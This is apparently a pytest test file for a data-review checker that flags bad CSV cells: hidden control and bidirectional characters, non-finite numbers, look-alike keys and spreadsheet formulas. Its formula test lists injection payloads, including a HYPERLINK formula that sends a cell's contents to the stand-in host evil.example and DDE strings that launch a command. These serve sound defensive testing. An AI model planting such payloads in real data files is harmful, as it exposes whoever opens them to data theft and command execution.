"""The cell rules of data/ that frictionless has no constraint for (reviewkit.checks.cells), where they live: one
small table, one bad cell at a time, one problem naming the file, the line, the column and the fix. The hostile
input test keeps one case of each family that an author types into a copy of the book."""

from __future__ import annotations

import pytest

from reviewkit.checks import cells

TABLE = {"name": "terms", "path": "terms.csv", "schema": {
    "fields": [{"name": "term", "type": "string"}, {"name": "expansion", "type": "string"},
               {"name": "value", "type": "number"}],
    "primaryKey": ["term"]}}
HEADER = ["term", "expansion", "value"]
FILE = "data/terms.csv"


def problems_with(column: str, value: str) -> tuple[int, list]:
    """The problems of the table with ``value`` in ``column`` of its second row (line 3)."""
    rows = [(2, ["CRS", "cytokine release syndrome", "1.5"]), (3, ["ICANS", "an ordinary expansion", "2"])]
    rows[1][1][HEADER.index(column)] = value
    return 3, cells.cell_problems(FILE, TABLE, HEADER, rows)


@pytest.mark.parametrize("char, name", [("\x00", "U+0000"), ("\x1b", "U+001B"),
                                        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
                                        ("\u200b", "U+200B ZERO WIDTH SPACE"), ("\u200d", "U+200D")])
def test_a_hidden_character_in_a_cell(char, name):
    line, found = problems_with("expansion", f"an ordinary{char} expansion")
    assert [(p.file, p.line, p.field) for p in found] == [(FILE, line, "expansion")]
    assert name in found[0].message and found[0].fix


@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
                                   "@SUM(1+1)*cmd|' /C calc'!A0"])
def test_a_spreadsheet_formula_in_a_text_cell(value):
    line, found = problems_with("expansion", value)
    assert [(p.file, p.line, p.field) for p in found] == [(FILE, line, "expansion")]
    assert "formula" in found[0].message and found[0].fix


@pytest.mark.parametrize("value", ["inf", "NaN", "-Infinity"])
def test_a_number_that_is_not_finite(value):
    line, found = problems_with("value", value)
    assert [(p.file, p.line, p.field) for p in found] == [(FILE, line, "value")]
    assert "not a finite number" in found[0].message and found[0].fix


def test_a_number_column_may_hold_a_negative_number_and_a_text_column_a_lone_sign():
    assert problems_with("value", "-1.5")[1] == [] and problems_with("expansion", "-")[1] == []


def test_two_keys_that_look_identical():
    rows = [(2, ["CRS", "x", ""]), (3, ["ＣＲＳ", "y", ""])]
    found = cells.cell_problems(FILE, TABLE, HEADER, rows)
    assert [(p.file, p.line, p.field) for p in found] == [(FILE, 3, "term")]
    assert "looks the same as" in found[0].message
